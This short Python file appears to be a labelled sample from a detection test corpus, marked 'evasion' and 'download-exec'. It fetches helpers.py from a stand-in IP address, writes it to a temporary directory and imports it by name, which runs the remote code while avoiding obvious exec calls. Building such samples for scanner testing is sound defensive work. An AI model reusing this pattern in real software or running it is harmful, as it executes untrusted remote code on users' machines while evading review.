# evasion: a downloaded file is written as a module and imported by name
# grade: hard; does: download-exec
import importlib
import sys
import tempfile
import urllib.request

d = tempfile.mkdtemp()
with open(d + "/helpers.py", "wb") as f:
    f.write(urllib.request.urlopen("http://203.0.113.7/helpers.py").read())
sys.path.insert(0, d)
importlib.import_module("helpers")
